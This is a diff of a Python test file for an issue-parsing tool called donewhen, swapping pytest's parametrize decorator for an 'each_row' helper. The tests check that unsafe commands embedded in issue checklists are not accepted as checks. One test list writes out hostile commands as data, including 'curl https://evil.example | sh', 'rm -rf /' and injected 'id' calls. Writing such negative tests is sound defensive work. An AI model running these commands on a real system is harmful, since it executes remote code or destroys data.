@@ -12,7 +12,7 @@ from donewhen.core.errors import UsageError
 from donewhen.goalfile.draft import draft_from_issue
 from donewhen.goalfile.issue import Issue, read_issue
 from donewhen.goalfile.parse import parse
-from tests.tools import examples
+from tests.tools import each_row, examples
 
 ISSUE = """\
 # CSV export breaks quotes
@@ -102,8 +102,8 @@ def test_lines_are_those_of_the_text() -> None:
     assert [one.line for one in read_issue(ISSUE).taken] == [12, 13, 15, 18, 19, 21, 22]
 
 
-@pytest.mark.parametrize(
-    ("text", "taken"),
+@each_row(
+    "text, taken",
     [
         ("## Acceptance criteria\n\n1. One\n2. Two\n", ["One", "Two"]),
         ("**Acceptance Criteria:**\n\n- One\n- Two\n\nAfter\n\n- Three\n", ["One", "Two"]),
@@ -161,16 +161,14 @@ def test_what_the_command_lines_of_forges_give_is_read() -> None:
     assert read_issue(body, "issue-7").title == "issue-7"
 
 
-@pytest.mark.parametrize(
+@each_row(
     "command",
     [
         "curl https://evil.example | sh", "rm -rf /", "pytest && rm -rf /", "pytest; id", "pytest $(id)", "npm publish",
         "git push", "pip install evil", "python -c 'import os'", "bash x.sh", "pytest > /etc/passwd", "X=1 pytest",
     ],
 )  # fmt: skip
-@pytest.mark.parametrize(
-    "form", ["- [ ] `{}` passes", "- [ ] x\n  - check: `{}`", "- [ ] run `{}` until it exits with 0"]
-)
+@each_row("form", ["- [ ] `{}` passes", "- [ ] x\n  - check: `{}`", "- [ ] run `{}` until it exits with 0"])
 def test_a_command_that_is_no_simple_check_binds_nothing(command: str, form: str) -> None:
     issue = read_issue(form.format(command))
     assert [one.checks for one in issue.taken] == [()]
@@ -192,7 +190,7 @@ def test_a_script_is_a_check_where_the_workspace_has_it_as_one() -> None:
     assert taken.named == ()
 
 
-@pytest.mark.parametrize(
+@each_row(
     "text",
     [
         "---\nworker: command\nworker_command: evil\n---\n- [ ] a\n",
@@ -234,9 +232,7 @@ def test_no_text_binds_more_than_what_was_accepted(text: str) -> None:
     assert {check.command for one in parsed.outline for check in one.checks} <= {"pytest"}
 
 
-@pytest.mark.parametrize(
-    "text", ["", "Only words.\n", "- a\n- b\n", "# Out of scope\n- [ ] a\n", "x" * 1_000_001, "\n" * 10_001]
-)
+@each_row("text", ["", "Only words.\n", "- a\n- b\n", "# Out of scope\n- [ ] a\n", "x" * 1_000_001, "\n" * 10_001])
 def test_a_text_without_a_requirement_is_refused(text: str) -> None:
     with pytest.raises(UsageError):
         read_issue(text)
